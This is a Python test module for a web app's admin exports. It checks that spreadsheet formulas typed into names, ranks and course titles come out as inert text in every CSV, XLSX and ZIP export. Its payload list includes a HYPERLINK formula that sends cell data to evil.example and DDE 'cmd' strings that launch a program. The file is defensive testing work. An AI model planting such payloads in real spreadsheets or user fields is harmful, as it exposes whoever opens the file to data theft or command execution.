"""Spreadsheet formulas typed into names never come out of an export as formulas.

Every export route (a GET whose rule ends in .csv, .xlsx or .zip, or whose endpoint says
export; GIFT files are not spreadsheets) is fetched as an admin in every format and table it
offers, over data whose names, ranks, units and course titles start like formulas. Every
cell of every CSV and XLSX (inside ZIPs too) must read as text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from accounts.models import Unit
from extensions import db
from tests import certificate_factories, factories, training_factories

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[-+]?\d+(\.\d+)?(e[-+]?\d+)?%?$", re.I)
QUERY_OPTIONS = {"format": ("csv", "xlsx"), "table": ("headline", "units", "categories", "modules", "trend",
                                                      "overdue", "arrivals")}


def _is_export(rule) -> bool:
    if "GET" not in rule.methods or rule.rule.endswith(".gift"):
        return False
    return rule.rule.endswith((".csv", ".xlsx", ".zip")) or "export" in rule.endpoint


def _cells(kind: str, data: bytes, where: str):
    """Every cell of a CSV, an XLSX or the CSV/XLSX files inside a ZIP; `kind` is a MIME type or file name."""
    if kind.endswith("zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for inner in archive.namelist():
                if inner.endswith((".csv", ".xlsx")):
                    yield from _cells(inner, archive.read(inner), f"{where} {inner}")
    elif kind.endswith(("sheet", ".xlsx")):
        for sheet in load_workbook(io.BytesIO(data)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{where}: formula cell {cell.coordinate} {cell.value!r}"
                    if _dangerous(cell.value):
                        # XLSX stores the type: formula-like text in a string cell is inert, with no
                        # apostrophe to show. Count it as escaped, the way CSV's apostrophe is.
                        assert cell.data_type == "s" and not cell.quotePrefix, f"{where}: {cell.coordinate}"
                        yield "'" + cell.value
                    else:
                        yield cell.value
    elif kind.endswith(("csv", ".csv")):
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            yield from row
    else:
        raise AssertionError(f"{where}: an export of unknown type {kind}")


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(PREFIXES) and not NUMBER.match(value.strip())


def test_no_export_lets_a_formula_through(app, client, login, admin, mission_a, trainer):
    unit = db.session.scalar(select(Unit).where(Unit.mission_id == mission_a.id))
    unit.name = FORMULAS[0]
    course = certificate_factories.make_course(owner=trainer, title={"en": FORMULAS[3]})
    training_factories.make_requirement(course, mission=mission_a, due_days=-400)
    training_factories.make_module(course, lessons=1)
    for k, formula in enumerate(FORMULAS):
        person = factories.make_user(mission=mission_a, unit=unit, name=formula, rank=FORMULAS[(k + 1) % len(FORMULAS)],
                                     service_number=f"FX-{k:03d}")
        if k % 2 == 0:
            certificate_factories.issue(person, course)
    db.session.commit()
    login(client, admin)
    client.get("/audit/", query_string={"action": FORMULAS[0]})  # a formula in the audit log's own filters

    exports = sorted((rule for rule in app.url_map.iter_rules() if _is_export(rule)), key=lambda r: r.rule)
    assert {rule.endpoint for rule in exports} >= {"audit.export_csv", "certificates.mission_zip"}
    values = {"mission_id": mission_a.id, "course_id": course.id}
    fetched, escaped, dangerous = [], 0, []
    for rule in exports:
        if not rule.arguments <= values.keys():
            continue
        url = rule.build({name: values[name] for name in rule.arguments})[1]
        for fmt in QUERY_OPTIONS["format"]:
            for table in QUERY_OPTIONS["table"]:
                response = client.get(url, query_string={"format": fmt, "table": table})
                data = response.get_data()
                response.close()
                if response.status_code != 200:
                    continue
                fetched.append(f"{url}?format={fmt}&table={table}")
                for value in _cells(response.mimetype, data, f"{url} {fmt} {table}"):
                    if _dangerous(value):
                        dangerous.append((url, fmt, table, value))
                    escaped += isinstance(value, str) and value.startswith("'") and value[1:].startswith(PREFIXES)
    endpoints = {rule.endpoint for rule in exports if any(f.startswith(rule.build(
        {n: values[n] for n in rule.arguments})[1]) for f in fetched if rule.arguments <= values.keys())}
    assert endpoints >= {"audit.export_csv", "certificates.mission_zip"}, fetched
    assert not dangerous, dangerous[:10]
    assert escaped >= len(FORMULAS), f"only {escaped} escaped formulas in {len(fetched)} exports: the payloads did not reach them"
